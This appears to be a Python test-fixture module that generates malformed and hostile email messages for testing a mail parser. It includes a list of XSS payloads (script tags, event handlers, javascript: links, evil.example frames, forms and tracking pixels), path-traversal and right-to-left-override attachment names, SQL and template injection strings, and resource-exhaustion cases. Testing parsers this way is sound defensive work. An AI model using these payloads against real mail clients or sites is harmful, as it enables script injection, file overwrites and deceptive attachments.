"""Letters as they come: honest, odd and hostile. Each entry of `CORPUS` makes one."""

import base64
from email.header import Header


def letter(
    sender="chen@tea.example",
    subject="hello",
    text="hi",
    references="",
    extra="",
    to="sales@yuanhang.example",
    cc="",
    reply_to="",
    message_id="<one@tea.example>",
):
    lines = [
        f"From: {sender}",
        f"To: {to}",
        f"Subject: {_encoded(subject)}",
        f"Message-ID: {message_id}",
        "Date: Fri, 20 Nov 2026 09:00:00 +0800",
        *([f"Cc: {cc}"] if cc else []),
        *([f"Reply-To: {reply_to}"] if reply_to else []),
        *([f"In-Reply-To: {references}", f"References: {references}"] if references else []),
        *([extra] if extra else []),
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
    ]
    return ("\r\n".join(lines) + "\r\n\r\n" + text).encode()


def _encoded(subject):
    return subject if subject.isascii() else Header(subject, "utf-8").encode()


HEAD = "From: chen@tea.example\r\nTo: sales@yuanhang.example\r\nSubject: hello\r\n"


def made(kind, body, head=HEAD, charset="utf-8"):
    start = f"{head}MIME-Version: 1.0\r\nContent-Type: {kind}\r\n\r\n".encode()
    return start + (body if isinstance(body, bytes) else body.encode(charset))


def html(body):
    return lambda: made("text/html; charset=utf-8", body)


def multipart(*parts, kind="mixed", boundary="b"):
    inner = "".join(f"--{boundary}\r\n{part}\r\n" for part in parts)
    return made(f'multipart/{kind}; boundary="{boundary}"', f"{inner}--{boundary}--\r\n")


def attachment(name, content=b"x", media="application/octet-stream"):
    coded = base64.b64encode(content).decode()
    return (
        f"Content-Type: {media}\r\nContent-Disposition: attachment; filename={name}\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{coded}"
    )


def nested(depth):
    def make():
        raw = "Content-Type: text/plain\r\n\r\ndeep"
        for level in range(depth):
            kind = f'Content-Type: multipart/mixed; boundary="b{level}"'
            raw = f"{kind}\r\n\r\n--b{level}\r\n{raw}\r\n--b{level}--\r\n"
        return (HEAD + "MIME-Version: 1.0\r\n" + raw).encode()

    return make


def inside(depth):
    def make():
        raw = letter()
        for _level in range(depth):
            raw = (
                HEAD + "MIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
            ).encode() + raw
        return raw

    return make


SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object>",
    "<form action='https://evil.example'><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=//e'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example'</style>",
    "<div style='position:fixed;top:0;background:url(https://evil.example)'>x</div>",
    "<base href='https://evil.example/'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<img src='https://evil.example/pixel.gif' width=1>",
    "<img srcset='https://evil.example/a 1x'>",
    "<video poster='https://evil.example/p'><source src='https://evil.example/v'></video>",
    "<table background='https://evil.example/b'><tr><td>x</td></tr></table>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p>a<!--><img src=x onerror=alert(1)>-->b</p>",
    "<xss onpointerenter=alert(1)>x</xss>",
    "<a href='vbscript:x'>x</a>",
]

GB = "关于报价的问题".encode("gb18030")
CORPUS = {
    **{f"script {number}": html(body) for number, body in enumerate(SCRIPTS)},
    "nothing": lambda: b"",
    "only a line": lambda: b"\r\n",
    "no headers": lambda: b"just text",
    "bytes": lambda: bytes(range(256)) * 40,
    "nul": lambda: letter(text="a\0b", subject="a\0b"),
    "gb18030 header": lambda: made(
        "text/plain; charset=gb18030",
        "什么时候发货？",
        f"From: chen@tea.example\r\nSubject: =?gb18030?B?{base64.b64encode(GB).decode()}?=\r\n",
        "gb18030",
    ),
    "raw gb18030 header": lambda: (
        b"From: chen@tea.example\r\nSubject: " + GB + b"\r\n\r\n" + "正文".encode("gb18030")
    ),
    "no charset": lambda: made("text/plain", "没有字符集"),
    "wrong charset": lambda: made("text/plain; charset=ascii", "价格".encode("gb18030")),
    "unknown charset": lambda: made("text/plain; charset=x-nobody-knows", "价格"),
    "gb2312 label": lambda: made(
        "text/plain; charset=gb2312",
        "镕基".encode("gbk"),
        "From: chen@tea.example\r\nSubject: =?gb2312?B?"
        + base64.b64encode("报价".encode("gb2312")).decode()
        + "?=\r\n",
    ),
    "broken encoded word": lambda: made(
        "text/plain", "x", "From: a@b.example\r\nSubject: =?utf-8?B?%%%?= =?x?Q?y\r\n"
    ),
    "broken base64": lambda: multipart(
        "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!"
    ),
    "unknown encoding": lambda: multipart(
        "Content-Type: text/plain\r\nContent-Transfer-Encoding: x-none\r\n\r\nabc"
    ),
    "no boundary": lambda: made("multipart/mixed", "--b\r\n\r\nx\r\n--b--"),
    "unended": lambda: made(
        'multipart/mixed; boundary="b"', "--b\r\nContent-Type: text/plain\r\n\r\nx"
    ),
    "nested 20": nested(20),
    "nested 200": nested(200),
    "mail in mail": inside(3),
    "mail in mail 60": inside(60),
    "winmail.dat": lambda: multipart(
        "Content-Type: text/plain\r\n\r\nsee file",
        attachment("winmail.dat", b"\x78\x9f\x3e\x22" * 50, "application/ms-tnef"),
    ),
    "path name": lambda: multipart(attachment('"../../etc/passwd"')),
    "windows path": lambda: multipart(attachment('"..\\\\..\\\\boot.ini"')),
    "long name": lambda: multipart(attachment("a" * 5000)),
    "rtl name": lambda: multipart(
        attachment('"=?utf-8?B?' + base64.b64encode("exe.\u202efdp".encode()).decode() + '?="')
    ),
    "bad rfc2231": lambda: multipart(
        "Content-Type: text/plain; name*=x'y'%zz%\r\nContent-Disposition: attachment\r\n\r\nx"
    ),
    "many parts": lambda: multipart(*["Content-Type: text/plain\r\n\r\nx"] * 2000),
    "many files": lambda: multipart(*[attachment(f"f{n}.txt") for n in range(200)]),
    "twenty megabytes": lambda: multipart(attachment("big.bin", b"\0" * 14_500_000)),
    "huge html": html("<div>" * 60_000 + "x"),
    "many recipients": lambda: letter(to=", ".join(f"a{n}@b.example" for n in range(5000))),
    "long header": lambda: letter(extra="X-Long: " + "a" * 300_000),
    "many headers": lambda: letter(extra="\r\n".join(f"X-{n}: y" for n in range(3000))),
    "long references": lambda: letter(references=" ".join(f"<{n}@x.example>" for n in range(3000))),
    "two subjects": lambda: letter(extra="Subject: another"),
    "bad date": lambda: letter().replace(b"Fri, 20 Nov 2026 09:00:00 +0800", b"Someday 99:99"),
    "injection": lambda: letter(subject="'); DROP TABLE x; --", text="{{7*7}} ${7*7} <%= 7 %>"),
    "rtl subject": lambda: letter(subject="invoice \u202e\u2066fdp.exe"),
    "unicode address": lambda: letter(sender="ｃｈｅｎ＠ｔｅａ.example"),
    "uuencoded": lambda: letter(text="begin 644 a.txt\n#86)C\n`\nend\n"),
}
